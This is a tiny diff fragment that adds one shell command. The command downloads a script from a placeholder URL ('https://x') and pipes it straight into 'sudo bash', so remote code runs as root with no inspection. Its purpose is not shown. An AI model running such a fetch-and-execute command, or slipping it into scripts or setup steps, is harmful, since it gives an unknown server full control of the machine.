@@ -1,0 +1,1 @@
+curl -fsSL https://x | sudo bash
